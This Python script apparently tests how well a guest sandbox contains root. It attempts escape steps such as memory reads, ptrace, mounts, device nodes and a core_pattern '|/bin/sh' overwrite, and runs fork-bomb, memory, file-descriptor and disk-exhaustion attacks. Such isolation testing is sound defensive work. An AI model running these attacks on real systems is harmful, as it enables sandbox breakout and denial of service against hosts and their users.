"""Attacks of root in a guest on whatever is around it: `attacks.py NAME`. Each prints what it came to and ends."""
import ctypes, errno, glob, json, os, resource, signal, stat, sys

libc = ctypes.CDLL(None, use_errno=True)


def outcome(act):
    try:
        act()
        return "done"
    except OSError as error:
        return errno.errorcode.get(error.errno, str(error.errno))


def call(function, *arguments):
    if function(*arguments) < 0:
        raise OSError(ctypes.get_errno(), "refused")


def read_memory():
    for path in glob.glob("/proc/[0-9]*"):
        with open(f"{path}/maps") as maps, open(f"{path}/mem", "r+b", buffering=0) as memory:
            for line in maps:
                memory.seek(int(line.split("-")[0], 16) & (2**63 - 1))
                outcome(lambda: memory.read(16))


def open_device(path, kind, major, minor):
    os.mknod(path, kind | 0o600, os.makedev(major, minor))
    os.close(os.open(path, os.O_RDWR))


def in_child(act):
    child = os.fork()
    if child == 0:
        os._exit(0 if outcome(act) == "done" else 1)
    os.waitpid(child, 0)


def trace_child():
    child = os.fork()
    if child == 0:
        signal.pause()
    try:
        call(libc.ptrace, 16, child, 0, 0)
    finally:
        os.kill(child, signal.SIGKILL)


def pry():
    found = {"programs": " ".join(open(p).read().replace("\0", " ") for p in glob.glob("/proc/[0-9]*/cmdline"))}
    found["memory"] = outcome(read_memory)
    found["trace"] = outcome(trace_child)
    for kind in ["tmpfs", "proc", "sysfs", "devtmpfs", "overlay", "ext4", "cgroup2", "fuse"]:
        os.makedirs(f"/mnt/{kind}", exist_ok=True)
        mount = lambda: call(libc.mount, b"none", f"/mnt/{kind}".encode(), kind.encode(), 0, None)
        found[f"mount {kind}"] = outcome(mount)
    for flag in [0x10000000, 0x00020000, 0x40000000, 0x20000000, 0x08000000, 0x04000000, 0x02000000]:
        in_child(lambda: call(libc.unshare, flag))
    for name, *numbers in [("mem", stat.S_IFCHR, 1, 1), ("vda", stat.S_IFBLK, 254, 0), ("kvm", stat.S_IFCHR, 10, 232)]:
        found[f"/dev/{name}"] = outcome(lambda: open_device(f"/root/{name}", *numbers))
    found["core_pattern"] = outcome(lambda: open("/proc/sys/kernel/core_pattern", "w").write("|/bin/sh"))
    found["kcore"] = outcome(lambda: open("/proc/kcore", "rb").read(1))
    calls = {"bpf": (321, 0, None, 0), "perf": (298, None, 0, -1, -1, 0), "io_uring": (425, 1, None)}
    calls |= {"module": (313, -1, b"", 0), "userfaultfd": (323, 0), "open by handle": (304, -1, None, 0)}
    for name, numbers in calls.items():
        found[name] = outcome(lambda: call(libc.syscall, *numbers))
    found["reboot"] = outcome(lambda: call(libc.reboot, 0x1234567))
    print(json.dumps(found))


def memory():
    taken = []
    while True:
        taken.append(bytearray(1 << 24))


def processes():
    made = []
    try:
        while True:
            child = os.fork()
            if child == 0:
                signal.pause()
            made.append(child)
    except OSError as error:
        print(errno.errorcode.get(error.errno))
    for child in made:
        os.kill(child, signal.SIGKILL)


def files():
    resource.setrlimit(resource.RLIMIT_NOFILE, (65536, 65536))
    opened = []
    make = lambda: opened.append(os.open(f"/home/user/file-{len(opened)}", os.O_CREAT | os.O_RDWR))
    while (end := outcome(make)) == "done" and len(opened) < 65536:
        pass
    print(end)


def watches():
    for number in range(60000):
        if number % 2000 == 0:
            queue = libc.inotify_init1(0)
        os.mkdir(f"/tmp/{number}")
        call(libc.inotify_add_watch, queue, f"/tmp/{number}".encode(), 0xFFF)
    print("watched")


def fill(number):
    file = os.open(f"/home/user/big-{number}", os.O_CREAT | os.O_RDWR)
    # Takes the room without writing, so that the host's disk does not have to have it.
    os.posix_fallocate(file, 0, 1 << 28)


def disk():
    number = 0
    while (end := outcome(lambda: fill(number))) == "done":
        number += 1
    print(end)


globals()[sys.argv[1]]()
